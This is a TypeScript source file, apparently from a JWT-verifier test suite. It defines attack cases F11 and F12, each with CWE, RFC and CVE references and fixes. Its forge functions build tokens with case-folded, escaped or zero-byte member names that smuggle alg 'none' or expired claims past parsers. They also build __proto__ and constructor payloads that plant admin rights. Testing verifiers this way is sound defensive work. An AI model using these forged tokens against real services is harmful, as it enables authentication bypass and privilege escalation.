import type { ForgeContext, Forgery, TokenAttack } from '../attack.ts';
import { issueExactForgery } from '../issued-forgery.ts';
import type { JsonObject } from '../known-token.ts';
import { freshClaims, joinToken, writeInput } from '../unsafe-writer.ts';

/** F11. */
export const foldedNames: TokenAttack = {
  kind: 'token',
  id: 'F11',
  title: 'Names in another case, escaped, or with a zero byte',
  severity: 'high',
  cwe: 178,
  source: ['RFC 7515 §4', 'RFC 7519 §4', 'RFC 8259 §8.3'],
  how: 'Names of members are compared as they are after their escapes are read, and their case counts. Some JSON readers fold the case, so that EXP overwrites exp; some compare before they unescape, so that an escaped name is not found; some end a name at a zero byte. Each lets a second member stand in for the one that was checked.',
  victims: [{ what: 'Readers that match names without regard to case, as encoding/json of Go does' }],
  fix: 'Compare names after unescaping, byte for byte. With a reader that folds case, refuse members whose names differ only in it.',
  needs: [],
  expect: 'refused',
  forge: async (context) => [...unsignedNames(context), ...(await signedNames(context))],
};

/** A reader that takes the planted name for alg finds a token that needs no signature. */
function unsignedNames({ good }: ForgeContext): readonly Forgery[] {
  const { alg, ...rest } = good.header;
  const members = JSON.stringify(rest).slice(1, -1);
  const others = members === '' ? '' : `,${members}`;
  const named = `"alg":${JSON.stringify(alg)}`;
  const headers: Readonly<Record<string, string>> = {
    'header-upper-case': `{"ALG":"none"${others}}`,
    'header-upper-case-behind': `{${named}${others},"ALG":"none"}`,
    'header-mixed-case-behind': `{${named}${others},"Alg":"none"}`,
    'header-escaped': String.raw`{"\u0061lg":"none"${others}}`,
    'header-escaped-wholly': String.raw`{"\u0061\u006c\u0067":"\u006e\u006f\u006e\u0065"${others}}`,
    'header-zero-byte-behind': String.raw`{${named}${others},"alg\u0000":"none"}`,
    'header-blank-behind': `{${named}${others},"alg ":"none"}`,
  };
  return Object.entries(headers).map(([variant, header]) => ({
    variant,
    token: joinToken(writeInput(header, good.payload), ''),
    proof: { kind: 'unsigned' },
  }));
}

/** What is forbidden stands under the right name, what would be good under one that some readers take for it. */
async function signedNames(context: ForgeContext): Promise<readonly Forgery[]> {
  if (context.signer === undefined) return [];
  const { now } = context;
  const claims = freshClaims(context);
  const bad: JsonObject = {
    exp: now - 3600,
    nbf: now + 3600,
    iss: 'https://another-issuer.invalid',
    aud: 'another-api',
  };
  const good: JsonObject = { nbf: now, ...claims };
  const forgeries: Promise<Forgery>[] = [];
  for (const [name, planted] of Object.entries(bad)) {
    if (name !== 'nbf' && !(name in claims)) continue;
    const rest = JSON.stringify({ ...claims, [name]: undefined }).slice(1, -1);
    const [wrong, right] = [JSON.stringify(planted), JSON.stringify(good[name])];
    const escaped = `\\u00${name.charCodeAt(0).toString(16)}${name.slice(1)}`;
    const payloads: Readonly<Record<string, string>> = {
      'upper-case-behind': `{${rest},"${name}":${wrong},"${name.toUpperCase()}":${right}}`,
      'upper-case-in-front': `{"${name.toUpperCase()}":${right},${rest},"${name}":${wrong}}`,
      'zero-byte-behind': String.raw`{${rest},"${name}":${wrong},"${name}\u0000":${right}}`,
      'escaped-alone': `{${rest},"${escaped}":${wrong}}`,
    };
    for (const [variant, payload] of Object.entries(payloads)) {
      forgeries.push(issueExactForgery(context, `${name}-${variant}`, { payload }));
    }
  }
  return Promise.all(forgeries);
}

/** F12. */
export const prototypeNames: TokenAttack = {
  kind: 'token',
  id: 'F12',
  title: 'Members named __proto__, constructor and prototype',
  severity: 'medium',
  cwe: 1321,
  source: ['OWASP Prototype Pollution Prevention', 'RFC 8725 §3.10'],
  how: "JSON.parse makes __proto__ an ordinary member, and the next line that copies the claims into another object turns it into that object's prototype: rights that nobody granted seem to be there. In tables that are plain objects, an algorithm or key named constructor finds a function that nobody put there.",
  victims: [
    { what: 'njwt', advisory: 'CVE-2024-34273' },
    { what: 'jose, jsonwebtoken and fast-jwt hand __proto__ on as a member (measured)' },
  ],
  fix: 'Refuse tokens with these three names, keep tables in a Map or an object without prototype, and look up own members alone.',
  needs: [],
  expect: 'refused',
  forge: async (context) => [...unsignedPrototypes(context), ...(await signedPrototypes(context))],
};

function unsignedPrototypes({ good }: ForgeContext): readonly Forgery[] {
  const { alg: _, ...rest } = good.header;
  const members = JSON.stringify(rest).slice(1, -1);
  const others = members === '' ? '' : `,${members}`;
  const headers: Readonly<Record<string, string>> = {
    'algorithm-from-prototype': `{"__proto__":{"alg":"none"}${others}}`,
    'algorithm-proto': `{"alg":"__proto__"${others}}`,
    'algorithm-constructor': `{"alg":"constructor"${others}}`,
    'algorithm-to-string': `{"alg":"toString"${others}}`,
    'typ-proto': JSON.stringify({ ...good.header, alg: 'none', typ: '__proto__' }),
  };
  return Object.entries(headers).map(([variant, header]) => ({
    variant,
    token: joinToken(writeInput(header, good.payload), ''),
    proof: { kind: 'unsigned' },
  }));
}

async function signedPrototypes(context: ForgeContext): Promise<readonly Forgery[]> {
  if (context.signer === undefined) return [];
  const claims = JSON.stringify(freshClaims(context));
  const rest = claims.slice(1, -1);
  const header = JSON.stringify(context.good.header).slice(1, -1);
  const payloads: Readonly<Record<string, string>> = {
    'claims-beside-proto': `{"__proto__":{"admin":true},${rest}}`,
    'claims-beside-escaped-proto': String.raw`{"\u005f_proto__":{"admin":true},${rest}}`,
    'claims-beside-constructor': `{"constructor":{"prototype":{"admin":true}},${rest}}`,
    'claims-with-nested-proto': `{"realm_access":{"__proto__":{"roles":["admin"]}},${rest}}`,
    'claims-from-proto': `{"__proto__":${claims}}`,
    'claims-behind-null-proto': `{"__proto__":null,${rest}}`,
  };
  return Promise.all([
    ...Object.entries(payloads).map(async ([variant, payload]) => issueExactForgery(context, variant, { payload })),
    issueExactForgery(context, 'header-beside-proto', { header: `{${header},"__proto__":{"admin":true}}` }),
  ]);
}
